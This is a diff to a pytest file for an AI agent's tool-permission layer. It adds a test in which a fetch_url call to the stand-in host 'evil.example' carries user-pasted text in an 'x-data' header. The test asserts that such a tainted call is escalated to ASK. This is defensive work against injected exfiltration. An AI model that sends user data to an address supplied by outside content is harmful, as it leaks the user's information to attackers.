@@ -8,6 +8,7 @@ import pytest
 
 from habakkuk.core.config.schema import PermissionMode
 from habakkuk.tools.contract import Risk, Tool, ToolArgs, ToolContext, ToolOutput
+from habakkuk.tools.core.fetch_url import FetchUrlArgs, fetch_url
 from habakkuk.tools.permissions import Taint, Verdict, decide
 
 ALLOW, ASK, DENY = Verdict.ALLOW, Verdict.ASK, Verdict.DENY
@@ -88,3 +89,16 @@ def test_an_address_of_its_own_making_is_asked_for_in_such_a_turn() -> None:
 
 def test_commands_of_a_turn_that_read_outside_content_are_always_asked_for() -> None:
     assert verdicts(a_tool(Risk.EXECUTE), tainted=True) == [DENY, ASK, ASK, ASK]
+
+
+def test_known_words_do_not_make_a_known_header_of_another_address() -> None:
+    # The user pasted the one, a page named the other: nobody has said the one goes to the other.
+    said = {"https://evil.example/", "what the user pasted"}
+    taint = Taint(said=said.__contains__)
+    plain, loaded = (
+        FetchUrlArgs(url="https://evil.example/", headers=headers)
+        for headers in ({}, {"x-data": "what the user pasted"})
+    )
+    full = PermissionMode.FULL
+    assert decide(full, fetch_url, plain, WORKSPACE, taint).verdict is ALLOW
+    assert decide(full, fetch_url, loaded, WORKSPACE, taint).verdict is ASK
